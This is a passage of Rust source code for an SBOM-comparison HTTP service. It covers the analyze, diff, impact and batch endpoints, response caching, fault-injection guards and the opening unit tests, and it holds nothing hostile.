pub const MAX_ANALYZE_FILES: usize = 512;

/// Maximum sub-requests accepted by `POST /v1/batch`.
pub const MAX_BATCH_REQUESTS: usize = 256;

/// Maximum SBOM documents accepted by one batched `POST /v1/impact`.
pub const MAX_IMPACT_SBOMS: usize = 64;

/// Shared service state: memoized seeded worlds, response cache, metrics.
pub struct AppState {
    /// Seed used when a request does not carry one.
    pub default_seed: u64,
    /// The response cache consulted by the worker loop.
    pub cache: ResponseCache,
    /// The metrics registry.
    pub metrics: Metrics,
    /// Parsed-metadata cache shared across requests. Keys hash file
    /// *content*, so two requests reusing a repository name can never see
    /// each other's stale parses — a rewritten manifest re-parses.
    pub parse_cache: ParseCache,
    /// TTL'd per-`(ecosystem, package)` advisory cache shared across
    /// `/v1/impact` requests (keyed on database fingerprints, so seeds
    /// never alias).
    pub enrich: EnrichCache,
    registries: Mutex<HashMap<u64, Arc<Registries>>>,
    advisories: Mutex<HashMap<(u64, u64, u64), Arc<AdvisoryDb>>>,
}

impl AppState {
    /// Fresh state with a response cache of `cache_capacity` entries.
    pub fn new(default_seed: u64, cache_capacity: usize) -> Self {
        AppState {
            default_seed,
            cache: ResponseCache::new(cache_capacity),
            metrics: Metrics::new(),
            parse_cache: ParseCache::new(),
            enrich: EnrichCache::new(),
            registries: Mutex::new(HashMap::new()),
            advisories: Mutex::new(HashMap::new()),
        }
    }

    /// The registry set for `seed`, memoized (at most 8 seeds retained).
    /// A poisoned memo lock means another worker panicked mid-insert; the
    /// map stays coherent, so the lock is recovered instead of cascading.
    pub fn registries(&self, seed: u64) -> Arc<Registries> {
        if let Some(found) = self
            .registries
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .get(&seed)
        {
            return Arc::clone(found);
        }
        // Generate outside the lock; a racing duplicate is deterministic.
        let generated = Arc::new(Registries::generate(seed));
        let mut memo = self
            .registries
            .lock()
            .unwrap_or_else(PoisonError::into_inner);
        if memo.len() >= 8 && !memo.contains_key(&seed) {
            memo.clear();
        }
        Arc::clone(memo.entry(seed).or_insert(generated))
    }

    /// The advisory database for `(registry seed, advisory seed, share)`,
    /// memoized like [`AppState::registries`].
    pub fn advisory_db(&self, seed: u64, advisory_seed: u64, share: f64) -> Arc<AdvisoryDb> {
        let key = (seed, advisory_seed, share.to_bits());
        if let Some(found) = self
            .advisories
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .get(&key)
        {
            return Arc::clone(found);
        }
        let registries = self.registries(seed);
        let generated = Arc::new(AdvisoryDb::generate(&registries, advisory_seed, share));
        let mut memo = self
            .advisories
            .lock()
            .unwrap_or_else(PoisonError::into_inner);
        if memo.len() >= 8 && !memo.contains_key(&key) {
            memo.clear();
        }
        Arc::clone(memo.entry(key).or_insert(generated))
    }
}

/// Routes a parsed request to its handler. `queue_depth` feeds the
/// `/metrics` gauge.
pub fn handle(state: &AppState, request: &Request, queue_depth: usize) -> Response {
    match (request.method.as_str(), request.path.as_str()) {
        ("GET", "/healthz") => healthz(),
        ("GET", "/metrics") => {
            let mut text =
                state
                    .metrics
                    .render(state.cache.hits(), state.cache.misses(), queue_depth);
            text.push_str(&Metrics::render_parse_cache(
                state.parse_cache.hits(),
                state.parse_cache.misses(),
            ));
            let enrich = state.enrich.stats();
            text.push_str(&Metrics::render_enrich_cache(
                enrich.hits,
                enrich.misses,
                enrich.expired,
            ));
            Response::text(200, text)
        }
        ("POST", "/v1/analyze") => with_json_body(request, |doc| analyze(state, doc)),
        ("POST", "/v1/diff") => with_json_body(request, |doc| diff(state, doc)),
        ("POST", "/v1/impact") => with_json_body(request, |doc| impact(state, doc)),
        ("POST", "/v1/batch") => with_json_body(request, |doc| batch(state, doc, queue_depth)),
        (_, "/healthz" | "/metrics")
        | (_, "/v1/analyze" | "/v1/diff" | "/v1/impact" | "/v1/batch") => {
            Response::error(405, "method not allowed")
        }
        _ => Response::error(404, "unknown endpoint"),
    }
}

/// Outcome of a cached execution.
pub enum Executed {
    /// Backed by a shared cache entry — a lookup hit, or a fresh success
    /// that was just inserted. Keep-alive responses write the entry's
    /// preserialized wire bytes zero-copy.
    Hit(Arc<CacheEntry>),
    /// Not cacheable (GET, error, or degraded): an owned response.
    Miss(Response),
}

impl Executed {
    /// The response status.
    pub fn status(&self) -> u16 {
        match self {
            Executed::Hit(entry) => entry.response.status,
            Executed::Miss(response) => response.status,
        }
    }
}

/// Looks up / fills the response cache around the pure [`handle`] call.
/// Only successful POST analysis responses are cached: GETs are trivially
/// cheap and error responses must keep carrying their specific messages.
/// Degraded responses are partial by construction and must not outlive the
/// fault that shaped them, so they never enter the cache.
pub fn execute_cached(state: &AppState, request: &Request, queue_depth: usize) -> Executed {
    let cacheable = request.method == "POST" && request.path.starts_with("/v1/");
    if !cacheable {
        return Executed::Miss(handle(state, request, queue_depth));
    }
    let key = ResponseCache::key(&request.path, &request.body);
    if let Some(cached) = state.cache.get(key) {
        return Executed::Hit(cached);
    }
    let response = handle(state, request, queue_depth);
    if response.is_success() && !response.degraded {
        let entry = Arc::new(CacheEntry::new(response));
        state.cache.put(key, Arc::clone(&entry));
        return Executed::Hit(entry);
    }
    Executed::Miss(response)
}

/// `POST /v1/batch`: many analysis sub-requests in one HTTP request,
/// amortizing connection, framing, and envelope-parse cost.
///
/// Payload: `{"requests": [{"path": "/v1/analyze", "body": {...}}, ...]}`
/// (at most [`MAX_BATCH_REQUESTS`] entries). Each entry routes through the
/// same cached execution path as a standalone POST — repeated payloads
/// across batches (or within one) are answered from the response cache, and
/// `/v1/analyze` entries share the PR-4 `ScanContext`/interner machinery
/// through the process-wide parse cache. An invalid entry yields a per-entry
/// 400 row rather than failing the whole batch; only a malformed envelope
/// is a top-level 400.
///
/// Response: `{"count": N, "degraded": bool, "responses": [{"path", "status",
/// "degraded", "body": "<sub-response JSON, as a string>"}, ...]}`. The
/// batch response is itself cacheable unless any sub-response was degraded.
fn batch(state: &AppState, doc: &Value, queue_depth: usize) -> Response {
    let Some(entries) = doc.get("requests").and_then(Value::as_array) else {
        return Response::error(400, "missing \"requests\" array");
    };
    if entries.is_empty() {
        return Response::error(400, "\"requests\" must contain at least one entry");
    }
    if entries.len() > MAX_BATCH_REQUESTS {
        return Response::error(400, "too many batch entries (limit 256)");
    }
    let mut degraded = false;
    let mut rows = Vec::with_capacity(entries.len());
    for entry in entries {
        let sub = match batch_entry_request(entry) {
            Ok(sub) => sub,
            Err(msg) => {
                rows.push(batch_row("", &Response::error(400, msg)));
                continue;
            }
        };
        let path = sub.path.clone();
        match execute_cached(state, &sub, queue_depth) {
            Executed::Hit(hit) => {
                rows.push(batch_row(&path, &hit.response));
                degraded |= hit.response.degraded;
            }
            Executed::Miss(response) => {
                rows.push(batch_row(&path, &response));
                degraded |= response.degraded;
            }
        }
    }
    let mut out = Value::object();
    out.set("count", Value::from(rows.len() as i64));
    out.set("degraded", Value::from(degraded));
    out.set("responses", Value::Array(rows));
    finish(out).with_degraded(degraded)
}

/// Validates one batch entry into a sub-[`Request`].
fn batch_entry_request(entry: &Value) -> Result<Request, &'static str> {
    let Some(path) = entry.get("path").and_then(Value::as_str) else {
        return Err("batch entry needs a string \"path\"");
    };
    if !matches!(path, "/v1/analyze" | "/v1/diff" | "/v1/impact") {
        return Err("batch entry path must be /v1/analyze, /v1/diff, or /v1/impact");
    }
    let Some(body) = entry.get("body").filter(|b| b.as_object().is_some()) else {
        return Err("batch entry needs an object \"body\"");
    };
    Ok(Request {
        method: "POST".into(),
        path: path.to_string(),
        body: json::to_string(body).into_bytes(),
    })
}

/// One row of the batch response. The sub-response body is embedded as a
/// string, not re-parsed: the bytes are already deterministic JSON, and
/// skipping the parse/re-serialize round-trip is the point of batching.
fn batch_row(path: &str, response: &Response) -> Value {
    let mut row = Value::object();
    row.set("path", Value::from(path));
    row.set("status", Value::from(i64::from(response.status)));
    row.set("degraded", Value::from(response.degraded));
    row.set(
        "body",
        Value::from(String::from_utf8_lossy(&response.body).into_owned()),
    );
    row
}

fn healthz() -> Response {
    let mut doc = Value::object();
    doc.set("status", Value::from("ok"));
    doc.set("service", Value::from("sbomdiff-serve"));
    doc.set("version", Value::from(env!("CARGO_PKG_VERSION")));
    finish(doc)
}

fn with_json_body(request: &Request, f: impl FnOnce(&Value) -> Response) -> Response {
    let Ok(text) = std::str::from_utf8(&request.body) else {
        return Response::error(400, "request body is not valid UTF-8");
    };
    match json::parse(text) {
        Ok(doc) if doc.as_object().is_some() => f(&doc),
        Ok(_) => Response::error(400, "request body must be a JSON object"),
        Err(e) => Response::error(400, &format!("invalid JSON body: {e}")),
    }
}

/// `POST /v1/analyze`: an in-memory repository tree → all four studied-tool
/// SBOMs (plus optionally the best-practice reference) and diff metrics.
fn analyze(state: &AppState, doc: &Value) -> Response {
    let Some(files) = doc.get("files").and_then(Value::as_object) else {
        return Response::error(400, "missing \"files\" object ({path: content})");
    };
    if files.is_empty() {
        return Response::error(400, "\"files\" must contain at least one file");
    }
    if files.len() > MAX_ANALYZE_FILES {
        return Response::error(400, "too many files (limit 512)");
    }
    let name = doc.get("name").and_then(Value::as_str).unwrap_or("repo");
    let seed = opt_u64(doc, "seed").unwrap_or(state.default_seed);
    let include_sboms = doc
        .get("include_sboms")
        .and_then(Value::as_bool)
        .unwrap_or(false);
    let best_practice = doc
        .get("best_practice")
        .and_then(Value::as_bool)
        .unwrap_or(false);
    let quality = doc.get("quality").and_then(Value::as_bool).unwrap_or(false);
    let format = match doc.get("format").and_then(Value::as_str) {
        None | Some("cyclonedx") => SbomFormat::CycloneDx,
        Some("spdx") => SbomFormat::Spdx,
        Some("spdx-tag-value") => SbomFormat::SpdxTagValue,
        Some(_) => {
            return Response::error(
                400,
                "format must be \"cyclonedx\", \"spdx\", or \"spdx-tag-value\"",
            )
        }
    };

    let mut repo = RepoFs::new(name);
    for (path, content) in files {
        let Some(content) = content.as_str() else {
            return Response::error(400, "every file content must be a string");
        };
        repo.add_text(path.clone(), content);
    }

    let registries = state.registries(seed);
    let tools = sbomdiff_generators::studied_tools(&registries, 0.0);
    // One walk, one parse per manifest: every profile (and the optional
    // best-practice reference) scans through a shared context backed by
    // the process-wide cache, so repeat requests over unchanged manifests
    // reuse earlier parses while mutated files re-parse (content-hashed
    // keys).
    let scan = ScanContext::new(&repo, &state.parse_cache);
    let mut ids = Vec::new();
    let mut sboms: Vec<Sbom> = Vec::new();
    let mut caught_fault = false;
    for tool in &tools {
        let id = tool.id();
        ids.push(id);
        let (sbom, faulted) = generate_guarded(id, name, || tool.generate_with_scan(&scan));
        caught_fault |= faulted;
        sboms.push(sbom);
    }
    if best_practice {
        let bp = BestPracticeGenerator::new(&registries);
        let id = bp.id();
        ids.push(id);
        let (sbom, faulted) = generate_guarded(id, name, || bp.generate_with_scan(&scan));
        caught_fault |= faulted;
        sboms.push(sbom);
    }
    // Opt-in NTIA-minimum quality scoring. Evaluated before the degraded
    // verdict so an injected `quality.score` fault marks the response
    // degraded (and thereby keeps it out of the response cache).
    let quality_rows = quality.then(|| {
        let mut rows = Vec::new();
        let mut faulted = false;
        for (id, sbom) in ids.iter().zip(&sboms) {
            let mut row = Value::object();
            row.set("tool", Value::from(id.label()));
            if let Some(surfaced) = fault::point!(fault::sites::QUALITY_SCORE, id.label()) {
                faulted = true;
                row.set(
                    "error",
                    Value::from(surfaced.message(fault::sites::QUALITY_SCORE)),
                );
                rows.push(row);
                continue;
            }
            let report = sbomdiff_quality::evaluate(sbom);
            let profile = quality_profile(*id);
            for check in QualityCheck::ALL {
                state
                    .metrics
                    .record_quality_score(profile, check.label(), report.check(check).score());
            }
            state
                .metrics
                .record_quality_score(profile, "total", report.score());
            row.set("score", Value::from(report.score()));
            row.set("components", Value::from(report.components as i64));
            let mut checks = Value::object();
            for check in QualityCheck::ALL {
                let r = report.check(check);
                let mut cell = Value::object();
                cell.set("score", Value::from(r.score()));
                cell.set("weight", Value::from(i64::from(check.weight())));
                cell.set("passed", Value::from(r.passed as i64));
                cell.set("missing", Value::from(r.missing as i64));
                cell.set("malformed", Value::from(r.malformed as i64));
                checks.set(check.label(), cell);
            }
            row.set("checks", checks);
            rows.push(row);
        }
        (rows, faulted)
    });
    let quality_fault = quality_rows.as_ref().is_some_and(|(_, f)| *f);
    // Degraded := some tool's generation step was lost to a caught fault,
    // or a fault plan is installed and fault evidence (injected-marker
    // messages, registry failures under the otherwise-reliable service
    // registry) reached the diagnostics. A pure function of (payload,
    // installed plan), so responses stay deterministic per plan.
    let degraded = caught_fault
        || quality_fault
        || sboms.iter().any(|s| {
            s.diagnostics().iter().any(|d| {
                fault::is_injected(&d.message)
                    || (fault::enabled() && d.class == DiagClass::RegistryFailure)
            })
        });

    let mut out = Value::object();
    out.set("subject", Value::from(name));
    out.set("seed", Value::from(seed as i64));
    out.set("degraded", Value::from(degraded));
    if degraded {
        state.metrics.record_degraded();
    }
    let mut tool_rows = Vec::new();
    for (id, sbom) in ids.iter().zip(&sboms) {
        let mut row = Value::object();
        row.set("tool", Value::from(id.label()));
        row.set("version", Value::from(id.version()));
        row.set("components", Value::from(sbom.len() as i64));
        row.set("duplicates", Value::from(sbom.duplicate_entries() as i64));
        row.set("diagnostics", Value::from(sbom.diagnostics().len() as i64));
        tool_rows.push(row);
    }
    out.set("tools", Value::Array(tool_rows));
    if let Some((rows, _)) = quality_rows {
        out.set("quality", Value::Array(rows));
    }
    // Classified diagnostics: what each tool could not parse or silently
    // dropped. Corrupted input degrades into evidence, never a 5xx.
    let mut diag_rows = Vec::new();
    for (id, sbom) in ids.iter().zip(&sboms) {
        for diag in sbom.diagnostics() {
            state.metrics.record_diagnostic(diag.class);
            let mut row = Value::object();
            row.set("tool", Value::from(id.label()));
            row.set("severity", Value::from(diag.severity.label()));
            row.set("class", Value::from(diag.class.label()));
            if let Some(path) = &diag.path {
                row.set("path", Value::from(path.clone()));
            }
            if let Some(line) = diag.line {
                row.set("line", Value::from(i64::from(line)));
            }
            row.set("message", Value::from(diag.message.clone()));
            diag_rows.push(row);
        }
    }
    out.set("diagnostics", Value::Array(diag_rows));
    let keys: Vec<_> = sboms.iter().map(key_set).collect();
    let mut pairs = Vec::new();
    for a in 0..sboms.len() {
        for b in (a + 1)..sboms.len() {
            let mut pair = Value::object();
            pair.set("a", Value::from(ids[a].label()));
            pair.set("b", Value::from(ids[b].label()));
            pair.set(
                "jaccard",
                jaccard(&keys[a], &keys[b]).map_or(Value::Null, Value::from),
            );
            pairs.push(pair);
        }
    }
    out.set("pairwise", Value::Array(pairs));
    // Scan-plan facts only: global cache hit/miss counters depend on
    // request history and would break the byte-identical-response
    // guarantee, so they are exposed via /metrics instead.
    let mut scan_info = Value::object();
    scan_info.set("metadata_files", Value::from(scan.files().len() as i64));
    out.set("scan", scan_info);
    if include_sboms {
        let mut docs = Value::object();
        for (id, sbom) in ids.iter().zip(&sboms) {
            docs.set(id.label(), Value::from(format.serialize(sbom)));
        }
        out.set("sboms", docs);
    }
    finish(out).with_degraded(degraded)
}

/// Stable lowercase profile slug used as the `profile` label of the
/// `sbomdiff_quality_score` gauge (matching the experiment CSV's profile
/// column).
fn quality_profile(id: ToolId) -> &'static str {
    match id {
        ToolId::Trivy => "trivy",
        ToolId::Syft => "syft",
        ToolId::SbomTool => "sbom-tool",
        ToolId::GithubDg => "github-dg",
        ToolId::BestPractice => "best-practice",
    }
}

/// Runs one tool's generation step under the `service.analyze` fault point
/// and a panic boundary. A failing or panicking tool yields an empty SBOM
/// carrying a typed diagnostic: the analysis degrades into evidence, it
/// never becomes a 500 and never silently omits the tool.
fn generate_guarded(id: ToolId, subject: &str, generate: impl FnOnce() -> Sbom) -> (Sbom, bool) {
    let outcome = catch_unwind(AssertUnwindSafe(|| {
        if let Some(surfaced) = fault::point!(fault::sites::SERVICE_ANALYZE, id.label()) {
            return Err(surfaced.message(fault::sites::SERVICE_ANALYZE));
        }
        Ok(generate())
    }));
    match outcome {
        Ok(Ok(sbom)) => (sbom, false),
        Ok(Err(message)) => (failed_tool_sbom(id, subject, message), true),
        Err(payload) => {
            let message = payload
                .downcast_ref::<String>()
                .cloned()
                .or_else(|| payload.downcast_ref::<&str>().map(|s| (*s).to_string()))
                .unwrap_or_else(|| "tool generation panicked".to_string());
            let message = if fault::is_injected(&message) {
                message
            } else {
                format!("caught panic: {message}")
            };
            (failed_tool_sbom(id, subject, message), true)
        }
    }
}

/// The placeholder SBOM for a tool whose generation step was lost to a
/// caught fault: no components, one Error-severity diagnostic.
fn failed_tool_sbom(id: ToolId, subject: &str, message: String) -> Sbom {
    let mut sbom = Sbom::new(id.label(), id.version()).with_subject(subject);
    sbom.extend_shared_diagnostics([Arc::new(Diagnostic::new(DiagClass::IoError, message))]);
    sbom
}

/// `POST /v1/diff`: two serialized SBOM documents → differential report.
///
/// Documents flow through the streaming ingester, so any externally
/// produced CycloneDX 1.4/1.5 JSON, SPDX 2.2/2.3 JSON, or SPDX tag-value
/// document is accepted — the two sides need not share a format. A
/// genuinely malformed document is a 400 with its classified diagnostic;
/// an injected ingestion fault degrades into a 200, mirroring
/// `/v1/analyze`, so chaos soaks see availability rather than client
/// errors.
///
/// With `"match": "tiered"` the response additionally carries the
/// multi-tier matcher's view (`jaccard_exact` vs `jaccard_matched`, the
/// per-tier pair counts, and a capped sample of non-exact matches). The
/// optional `"jobs"` knob only changes how tier-3 scoring fans out —
/// responses stay byte-identical for every value.
fn diff(state: &AppState, doc: &Value) -> Response {
    let (Some(a_text), Some(b_text)) = (
        doc.get("a").and_then(Value::as_str),
        doc.get("b").and_then(Value::as_str),
    ) else {
        return Response::error(400, "missing \"a\" and \"b\" SBOM document strings");
    };
    let tiered = match doc.get("match") {
        None => false,
        Some(mode) => match mode.as_str() {
            Some("exact") => false,
            Some("tiered") => true,
            _ => return Response::error(400, "\"match\" must be \"exact\" or \"tiered\""),
        },
    };
    let mut outcomes = Vec::with_capacity(2);
    for (label, text) in [("a", a_text), ("b", b_text)] {
        let outcome = ingest::ingest_bytes(text.as_bytes());
        state
            .metrics
            .record_ingest(outcome.format, outcome.stats.bytes_read);
        if let Some(fatal) = &outcome.fatal {
            if !fault::is_injected(&fatal.message) {
                return Response::error(400, &format!("document \"{label}\": {}", fatal.message));
            }
        }
        outcomes.push((label, outcome));
    }
    let degraded = outcomes.iter().any(|(_, o)| {
        o.fatal
            .as_ref()
            .is_some_and(|f| fault::is_injected(&f.message))
            || o.sbom
                .diagnostics()
                .iter()
                .any(|d| fault::is_injected(&d.message))
    });
    if degraded {
        state.metrics.record_degraded();
    }
    let keys_a = key_set(&outcomes[0].1.sbom);
    let keys_b = key_set(&outcomes[1].1.sbom);
    let mut out = Value::object();
    let mut diag_rows = Vec::new();
    for (label, outcome) in &outcomes {
        let sbom = &outcome.sbom;
        let mut side = Value::object();
        side.set(
            "format",
            outcome
                .format
                .map_or(Value::Null, |f| Value::from(f.label())),
        );
        side.set(
            "spec_version",
            outcome
                .stats
                .spec_version
                .as_ref()
                .map_or(Value::Null, |v| Value::from(v.clone())),
        );
        side.set("tool", Value::from(sbom.meta.tool_name.clone()));
        side.set("tool_version", Value::from(sbom.meta.tool_version.clone()));
        side.set("subject", Value::from(sbom.meta.subject.clone()));
        side.set("components", Value::from(sbom.len() as i64));
        side.set("duplicates", Value::from(sbom.duplicate_entries() as i64));
        out.set(*label, side);
        for diag in sbom
            .diagnostics()
            .iter()
            .map(|d| &**d)
            .chain(outcome.fatal.as_ref())
        {
            state.metrics.record_diagnostic(diag.class);
            let mut row = Value::object();
            row.set("document", Value::from(*label));
            row.set("severity", Value::from(diag.severity.label()));
            row.set("class", Value::from(diag.class.label()));
            if let Some(line) = diag.line {
                row.set("line", Value::from(i64::from(line)));
            }
            row.set("message", Value::from(diag.message.clone()));
            diag_rows.push(row);
        }
    }
    out.set("diagnostics", Value::Array(diag_rows));
    out.set("degraded", Value::from(degraded));
    out.set(
        "jaccard",
        jaccard(&keys_a, &keys_b).map_or(Value::Null, Value::from),
    );
    out.set(
        "intersection",
        Value::from(keys_a.intersection(&keys_b).count() as i64),
    );
    const KEY_SAMPLE: usize = 50;
    for (label, mine, other) in [("only_a", &keys_a, &keys_b), ("only_b", &keys_b, &keys_a)] {
        let only: Vec<_> = mine.difference(other).collect();
        out.set(format!("{label}_total"), Value::from(only.len() as i64));
        out.set(
            label,
            Value::Array(
                only.iter()
                    .take(KEY_SAMPLE)
                    .map(|k| Value::from(k.to_string()))
                    .collect(),
            ),
        );
    }
    if tiered {
        let jobs = opt_u64(doc, "jobs").unwrap_or(1).clamp(1, 16) as usize;
        let cfg = MatchConfig {
            jobs,
            ..MatchConfig::default()
        };
        let report = match_sboms(&outcomes[0].1.sbom, &outcomes[1].1.sbom, &cfg);
        let counts = report.tier_counts();
        for tier in MatchTier::ALL {
            state
                .metrics
                .record_matches(tier, counts[tier.index()] as u64);
        }
        out.set(
            "jaccard_exact",
            report.jaccard_exact().map_or(Value::Null, Value::from),
        );
        out.set(
            "jaccard_matched",
            report.jaccard_matched().map_or(Value::Null, Value::from),
        );
        let mut tiers = Value::object();
        for tier in MatchTier::ALL {
            tiers.set(tier.label(), Value::from(counts[tier.index()] as i64));
        }
        out.set("match_tiers", tiers);
        let recovered: Vec<_> = report
            .pairs
            .iter()
            .filter(|p| p.tier != MatchTier::Exact)
            .collect();
        out.set("matches_total", Value::from(recovered.len() as i64));
        out.set(
            "matches",
            Value::Array(
                recovered
                    .iter()
                    .take(KEY_SAMPLE)
                    .map(|p| {
                        let mut row = Value::object();
                        row.set("a", Value::from(p.a.to_string()));
                        row.set("b", Value::from(p.b.to_string()));
                        row.set("tier", Value::from(p.tier.label()));
                        row.set("score", Value::from(p.score));
                        row
                    })
                    .collect(),
            ),
        );
    }
    finish(out).with_degraded(degraded)
}

/// `POST /v1/impact`: SBOM document(s) + advisory-db seed → missed /
/// false-alarm vulnerability reports via the enrichment cache
/// ([`sbomdiff_vuln::assess_cached`]).
///
/// Two payload shapes:
///
/// * `{"sbom": "<doc>", ...}` — the legacy single-document form; the
///   response carries the report fields at the top level.
/// * `{"sboms": ["<doc>", ...], ...}` — batched (at most
///   [`MAX_IMPACT_SBOMS`] documents) against one shared truth; the
///   response is `{"count", "advisories", "truth_packages", "degraded",
///   "reports": [...]}` with one report row per document.
///
/// Without an explicit `"truth"` array, the first document's pinned
/// components are the ground truth — so a batch of one tool profile per
/// document diffs every profile against the first (e.g. a best-practice
/// SBOM). An optional `"ecosystem"` string pins the truth's language;
/// otherwise it is inferred per document from its first component.
///
/// A fault surfaced at an enrichment site degrades that document's row
/// (never a 5xx); degraded responses are never cached by
/// [`execute_cached`], so a later fault-free request recomputes.
fn impact(state: &AppState, doc: &Value) -> Response {
    if doc.get("sbom").is_some() && doc.get("sboms").is_some() {
        return Response::error(400, "provide \"sbom\" or \"sboms\", not both");
    }
    let batched = doc.get("sboms").is_some();
    let mut texts: Vec<String> = Vec::new();
    if batched {
        let Some(entries) = doc.get("sboms").and_then(Value::as_array) else {
            return Response::error(400, "\"sboms\" must be an array of document strings");
        };
        if entries.is_empty() {
            return Response::error(400, "\"sboms\" must contain at least one document");
        }
        if entries.len() > MAX_IMPACT_SBOMS {
            return Response::error(400, "too many impact documents (limit 64)");
        }
        for (i, entry) in entries.iter().enumerate() {
            let Some(text) = entry.as_str() else {
                return Response::error(400, &format!("\"sboms\"[{i}] must be a document string"));
            };
            texts.push(text.to_string());
        }
    } else {
        let Some(text) = doc.get("sbom").and_then(Value::as_str) else {
            return Response::error(400, "missing \"sbom\" document string");
        };
        texts.push(text.to_string());
    }
    let mut sboms = Vec::with_capacity(texts.len());
    for (i, text) in texts.iter().enumerate() {
        match parse_sbom_doc(text) {
            Ok(s) => sboms.push(s),
            Err(msg) if batched => {
                return Response::error(400, &format!("document \"sboms\"[{i}]: {msg}"));
            }
            Err(msg) => return Response::error(400, &format!("document \"sbom\": {msg}")),
        }
    }
    let seed = opt_u64(doc, "seed").unwrap_or(state.default_seed);
    let advisory_seed = opt_u64(doc, "advisory_seed").unwrap_or(1);
    let share = doc
        .get("vulnerable_share")
        .and_then(Value::as_f64)
        .unwrap_or(0.2);
    if !(0.0..=1.0).contains(&share) {
        return Response::error(400, "vulnerable_share must be within [0, 1]");
    }
    let pinned_eco = match doc.get("ecosystem") {
        None | Some(Value::Null) => None,
        Some(value) => match value.as_str().and_then(|s| s.parse::<Ecosystem>().ok()) {
            Some(eco) => Some(eco),
            None => return Response::error(400, "unknown \"ecosystem\""),
        },
    };
    let truth = match doc.get("truth") {
        None | Some(Value::Null) => sbom_as_truth(&sboms[0]),
        Some(value) => match parse_truth(value) {
            Ok(t) => t,
            Err(msg) => return Response::error(400, msg),
        },
    };
    let db = state.advisory_db(seed, advisory_seed, share);
    let mut degraded = false;
    let mut rows = Vec::with_capacity(sboms.len());
    for sbom in &sboms {
        let eco = pinned_eco
            .or_else(|| sbom.components().first().map(|c| c.ecosystem))
            .unwrap_or(Ecosystem::Python);
        let mut row = Value::object();
        row.set("tool", Value::from(sbom.meta.tool_name.clone()));
        row.set("subject", Value::from(sbom.meta.subject.clone()));
        match assess_cached(&state.enrich, &db, eco, sbom, &truth) {
            Ok(report) => {
                record_raised_severities(state, &db, &report);
                impact_report_fields(&mut row, &report);
            }
            Err(msg) => {
                degraded = true;
                row.set("degraded", Value::from(true));
                row.set("error", Value::from(msg));
            }
        }
        rows.push(row);
    }
    let mut out = if batched {
        let mut out = Value::object();
        out.set("count", Value::from(rows.len() as i64));
        out.set("degraded", Value::from(degraded));
        out.set("reports", Value::Array(rows));
        out
    } else {
        rows.pop().unwrap_or_else(Value::object)
    };
    out.set("advisories", Value::from(db.len() as i64));
    out.set("truth_packages", Value::from(truth.len() as i64));
    finish(out).with_degraded(degraded)
}

/// Writes an [`ImpactReport`]'s id partitions and rates into a response
/// row.
fn impact_report_fields(row: &mut Value, report: &ImpactReport) {
    for (label, ids) in [
        ("actual", &report.actual),
        ("detected", &report.detected),
        ("missed", &report.missed),
        ("false_alarms", &report.false_alarms),
    ] {
        row.set(
            label,
            Value::Array(ids.iter().map(|id| Value::from(id.clone())).collect()),
        );
    }
    row.set("miss_rate", Value::from(report.miss_rate()));
    row.set("false_alarm_rate", Value::from(report.false_alarm_rate()));
}

/// Counts the raised advisories (detected + false alarms — what an
/// operator sees) per severity for `/metrics`.
fn record_raised_severities(state: &AppState, db: &AdvisoryDb, report: &ImpactReport) {
    for id in report.detected.iter().chain(report.false_alarms.iter()) {
        if let Some(adv) = db.by_id(id) {
            state.metrics.record_advisories(adv.severity, 1);
        }
    }
}

fn sbom_as_truth(sbom: &Sbom) -> Vec<ResolvedPackage> {
    sbom.components()
        .iter()
        .filter_map(|c| {
            let version = Version::parse(c.version.as_deref()?).ok()?;
            Some(ResolvedPackage::direct(c.name.clone(), version))
        })
        .collect()
}

fn parse_truth(value: &Value) -> Result<Vec<ResolvedPackage>, &'static str> {
    let entries = value
        .as_array()
        .ok_or("\"truth\" must be an array of {name, version} objects")?;
    let mut out = Vec::with_capacity(entries.len());
    for entry in entries {
        let name = entry
            .get("name")
            .and_then(Value::as_str)
            .ok_or("every truth entry needs a string \"name\"")?;
        let version_text = entry
            .get("version")
            .and_then(Value::as_str)
            .ok_or("every truth entry needs a string \"version\"")?;
        let version =
            Version::parse(version_text).map_err(|_| "unparseable version in \"truth\" entry")?;
        out.push(ResolvedPackage::direct(name, version));
    }
    Ok(out)
}

fn parse_sbom_doc(text: &str) -> Result<Sbom, String> {
    match SbomFormat::detect(text) {
        Some(format) => format
            .parse(text)
            .map_err(|e| format!("failed to parse: {e}")),
        None => Err("not a recognizable CycloneDX or SPDX document".to_string()),
    }
}

fn opt_u64(doc: &Value, key: &str) -> Option<u64> {
    doc.get(key)
        .and_then(Value::as_i64)
        .map(|n| n.max(0) as u64)
}

/// Compact-serializes a response document with a trailing newline.
fn finish(doc: Value) -> Response {
    let mut body = json::to_string(&doc);
    body.push('\n');
    Response::json(200, body)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn state() -> AppState {
        AppState::new(42, 64)
    }

    fn post(path: &str, body: &str) -> Request {
        Request {
            method: "POST".into(),
            path: path.into(),
            body: body.as_bytes().to_vec(),
        }
    }

    fn body_json(resp: &Response) -> Value {
        json::parse(std::str::from_utf8(&resp.body).unwrap()).unwrap()
    }

    #[test]
    fn healthz_reports_ok() {
        let state = state();
        let req = Request {
            method: "GET".into(),
            path: "/healthz".into(),
            body: vec![],
        };
        let resp = handle(&state, &req, 0);
        assert_eq!(resp.status, 200);
        assert_eq!(
            body_json(&resp).get("status").and_then(Value::as_str),
            Some("ok")
        );
    }

    #[test]
    fn unknown_path_is_404_and_bad_method_is_405() {
        let state = state();
        let resp = handle(&state, &post("/nope", "{}"), 0);
        assert_eq!(resp.status, 404);
        let resp = handle(&state, &post("/healthz", ""), 0);
        assert_eq!(resp.status, 405);
        let get_diff = Request {
            method: "GET".into(),
            path: "/v1/diff".into(),
            body: vec![],
        };
        assert_eq!(handle(&state, &get_diff, 0).status, 405);
    }

    #[test]
    fn malformed_bodies_yield_400() {
        let state = state();
        for body in ["not json", "{\"files\": 7}", "[1,2]", "{\"files\": {}}"] {
            let resp = handle(&state, &post("/v1/analyze", body), 0);
            assert_eq!(resp.status, 400, "{body}");
            assert!(body_json(&resp).get("error").is_some(), "{body}");
        }
        let resp = handle(&state, &post("/v1/diff", "{}"), 0);
        assert_eq!(resp.status, 400);
        let resp = handle(&state, &post("/v1/impact", "{\"sbom\": \"junk\"}"), 0);
        assert_eq!(resp.status, 400);
    }

    #[test]
    fn non_utf8_body_yields_400() {
        let state = state();
        let req = Request {
            method: "POST".into(),
            path: "/v1/diff".into(),
            body: vec![0xff, 0xfe, 0x00],
        };
